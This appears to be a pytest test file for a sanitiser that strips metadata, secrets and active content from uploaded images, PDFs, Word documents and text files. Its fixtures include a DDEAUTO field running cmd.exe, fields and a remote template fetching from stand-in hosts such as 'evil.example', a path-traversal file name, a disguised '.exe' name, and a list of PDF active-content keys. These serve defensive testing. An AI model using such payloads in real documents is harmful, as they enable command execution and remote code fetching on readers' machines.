"""What is kept is what a reader sees: never who made it, where, when or with what, and nothing that acts."""

import gc
import hashlib
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from lxml import etree
from PIL import Image

from endeavour.files.checking import Checked, check
from endeavour.files.inspection.answer import Kind
from endeavour.files.inspection.segments import bare_jpeg, bare_png
from tests.concepts.files import made
from tests.concepts.files.made import CANARY, SECRET

W = f"{{{made.WORD}}}"


def cleaned(name: str, data: bytes, *, photo: bool = False) -> Checked:
    return check(name, io.BytesIO(data), len(data), photo=photo)


def unpacked(data: bytes) -> bytes:
    """Everything there is to search: what a PDF or a zip keeps packed is laid open."""
    if data.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return b"".join(name.encode() + archive.read(name) for name in archive.namelist())
    if data.startswith(b"%PDF"):
        out = io.BytesIO()
        with pikepdf.open(io.BytesIO(data)) as pdf:
            pdf.save(
                out,
                object_stream_mode=pikepdf.ObjectStreamMode.disable,
                stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
                compress_streams=False,
            )
        return out.getvalue()
    return data


FULL_OF_CANARIES: dict[str, Callable[[], bytes]] = {
    "a.jpg": made.jpeg,
    "a.png": made.png,
    "a.pdf": made.pdf,
    "programs.pdf": lambda: made.pdf(made.with_programs),
    "signed.pdf": lambda: made.pdf(made.signed),
    "a.docx": made.docx,
}


@pytest.mark.parametrize("name", FULL_OF_CANARIES)
def test_no_canary_is_left_in_what_is_kept(name: str) -> None:
    sent = FULL_OF_CANARIES[name]()
    kept = cleaned(name, sent)
    data = kept.path.read_bytes()
    assert unpacked(sent).count(SECRET) > 2
    assert unpacked(data).count(SECRET) == 0
    assert (kept.size, kept.sha256) == (len(data), hashlib.sha256(data).hexdigest())


def test_a_photo_is_turned_upright_and_looks_the_same() -> None:
    kept = cleaned("a.JPEG", made.jpeg(orientation=6))
    with Image.open(kept.path) as picture:
        assert (picture.format, picture.size, sorted(picture.info)) == (
            "JPEG", (120, 160), ["jfif", "jfif_density", "jfif_unit", "jfif_version"]
        )  # fmt: skip
        assert picture.getexif() == {}
        top, bottom = picture.getpixel((60, 10)), picture.getpixel((60, 150))
    assert near(top, (200, 20, 20))
    assert near(bottom, (20, 20, 200))


def near(one: object, other: tuple[int, int, int]) -> bool:
    assert isinstance(one, tuple)
    return all(abs(a - b) < 12 for a, b in zip(one, other, strict=True))


def test_a_picture_of_the_screen_keeps_every_pixel() -> None:
    sent = made.png()
    kept = cleaned("a.png", sent)
    with Image.open(kept.path) as now, Image.open(io.BytesIO(sent)) as before:
        assert (now.mode, now.size, now.tobytes()) == (before.mode, before.size, before.tobytes())
        assert now.info == {}


def test_a_huge_photo_becomes_a_large_one() -> None:
    kept = cleaned("a.jpg", made.jpeg(size=(8000, 6000)))
    with Image.open(kept.path) as picture:
        assert picture.size == (4000, 3000)


def test_a_face_becomes_a_small_square() -> None:
    kept = cleaned("Mara Osei.png", made.png(), photo=True)
    with Image.open(kept.path) as picture:
        assert (kept.kind, kept.label, picture.format, picture.size) == (Kind.JPEG, "photo.jpg", "JPEG", (480, 480))
    assert kept.path.read_bytes().count(SECRET) == 0


def test_a_pdf_keeps_its_pages_its_words_and_its_links_and_loses_what_acts() -> None:
    kept = cleaned("a.pdf", made.pdf(made.with_programs, pages=3))
    with pikepdf.open(kept.path) as pdf:
        annotations = list(pdf.pages[0].obj.Annots)
        assert len(pdf.pages) == 3
        assert sorted(pdf.Root.keys()) == ["/AcroForm", "/Names", "/Pages", "/Type"]
        assert (sorted(pdf.Root.AcroForm.keys()), sorted(pdf.Root.Names.keys())) == (["/Fields"], [])
        assert "/Info" not in pdf.trailer
        assert str(annotations[0].Contents) == "A good idea"
        assert str(annotations[1].A.URI) == "https://www.gov.uk/send"
        assert [str(one.A.S) for one in annotations[1:5]] == ["/URI", "/Named", "/GoTo", "/Named"]
        photo = pdf.pages[0].obj.Resources.XObject.Photo
        with Image.open(io.BytesIO(photo.read_raw_bytes())) as picture:
            assert (picture.size, near(picture.getpixel((10, 60)), (200, 20, 20))) == ((160, 120), True)
    laid_open = unpacked(kept.path.read_bytes())
    acts = (
        b"/JavaScript",
        b"/JS",
        b"/Launch",
        b"/XFA",
        b"/AA",
        b"/OpenAction",
        b"/Metadata",
        b"/Info",
        b"javascript:",
    )
    assert [word for word in acts if word in laid_open] == []


def test_a_word_document_keeps_what_a_reader_sees() -> None:
    kept = cleaned("a.docx", made.docx())
    with zipfile.ZipFile(kept.path) as archive:
        names = sorted(archive.namelist())
        text = etree.fromstring(archive.read("word/document.xml"))
        comments = etree.fromstring(archive.read("word/comments.xml"))
        settings = archive.read("word/settings.xml")
        links = archive.read("word/_rels/document.xml.rels").decode()
        types = archive.read("[Content_Types].xml").decode()
        photo = archive.read("word/media/image1.jpeg")
    assert names == [
        "[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels", "word/comments.xml",
        "word/document.xml", "word/media/image1.jpeg", "word/settings.xml",
    ]  # fmt: skip
    assert [one.text for one in text.iter(f"{W}t")] == [
        "Mara joins in at story time.",
        "She asks for more.",
        "A page",
    ]
    assert [dict(one.attrib) for one in text.iter(f"{W}ins", f"{W}p")] == [
        {}, {f"{W}id": "1", f"{W}author": "Author"}
    ]  # fmt: skip
    assert [one.text for one in comments.iter(f"{W}t")] == ["Well put"]
    assert (b"rsid" in settings, b"docId" in settings, b'percent="90"' in settings) == (False, False, True)
    assert ("https://www.gov.uk/send" in links, "about:blank" in links, "people" in links) == (True, True, False)
    assert ("docProps" in types, "comments" in types) == (False, True)
    with Image.open(io.BytesIO(photo)) as picture:
        assert dict(picture.getexif()) == {0x0112: 6}


@pytest.mark.parametrize(
    "code",
    [' INCLUDEPICTURE "http://tracker.example/a.png" \\d ', ' DDEAUTO c:\\\\cmd.exe "/k" ', "LINK Excel.Sheet a"],
)
def test_a_field_that_fetches_becomes_the_text_that_it_shows(code: str) -> None:
    body = made.field(code.replace('"', "&quot;"), "42 words") + made.field(" PAGE ", "3")
    kept = cleaned("a.docx", made.docx(body=body))
    with zipfile.ZipFile(kept.path) as archive:
        text = etree.fromstring(archive.read("word/document.xml"))
    assert [one.text for one in text.iter(f"{W}t")][-2:] == ["42 words", "3"]
    assert "".join(one.text or "" for one in text.iter(f"{W}instrText")) == " PAGE "
    assert len(list(text.iter(f"{W}fldChar"))) == 3


def test_a_remote_template_is_forgotten() -> None:
    far = made.relation(9, "attachedTemplate", "http://evil.example/t.dotm", external=True)
    settings = (
        f'<w:settings xmlns:w="{made.WORD}" xmlns:r="{made.OFFICE}"><w:attachedTemplate r:id="rId9"/></w:settings>'
    )
    more = {"word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": made.relations(far)}
    kept = cleaned("a.docx", made.docx(more=more))
    assert (b"evil" in unpacked(kept.path.read_bytes()), b"attachedTemplate" in unpacked(kept.path.read_bytes())) == (
        False,
        False,
    )


@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_plain_text_is_kept_as_utf_8(codec: str) -> None:
    words = "“Très bien”, said Zoë.\r\nShe read 3 pages."
    kept = cleaned("notes.TXT", words.encode(codec))
    assert (kept.kind, kept.label, kept.path.read_bytes().decode()) == (Kind.TEXT, "notes.txt", words)


def test_pictures_inside_documents_keep_their_pixels() -> None:
    for sent, bare in ((made.jpeg(), bare_jpeg), (made.png(), bare_png)):
        with Image.open(io.BytesIO(sent)) as before, Image.open(io.BytesIO(bare(sent))) as now:
            assert now.tobytes() == before.tobytes()
        with pytest.raises(ValueError, match="cut short"):
            bare(sent[: len(sent) // 2])


NAMES = {
    "../../etc/passwd.txt": "passwd.txt",
    "C:\\Users\\jane\\Letter.TXT": "Letter.txt",
    "a\0b\x1b[31m\nc.txt": "ab[31mc.txt",
    "gp\u202etxt.exe.txt": "gptxt.exe.txt",
    "con.txt": "file.txt",
    ".txt": "file.txt",
    "": "file.txt",
    "…": "….txt",
    'a"b<c>:d|e?.txt': "a-b-c--d-e-.txt",
    "Ζωή 🙂.txt": "Ζωή 🙂.txt",
    "e\u0301.txt": "é.txt",
    "notes": "notes.txt",
    "Dr. Smith": "Dr. Smith.txt",
    "x" * 251 + ".txt": "x" * 107 + "…" + "x" * 8 + ".txt",
    "🙂" * 63 + ".txt": "🙂" * 63 + ".txt",
}


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_made_harmless_and_ends_as_the_file_does(name: str) -> None:
    kept = cleaned(name, b"Mara joins in.")
    assert kept.label == NAMES[name]
    assert len(kept.label) <= 120


def test_a_copy_that_nobody_keeps_goes_by_itself() -> None:
    kept = cleaned("a.txt", b"Mara joins in.")
    path: Path = kept.path
    assert path.exists()
    del kept
    gc.collect()
    assert not path.exists()


def test_the_canary_would_be_found() -> None:
    assert CANARY.encode() in unpacked(made.docx())
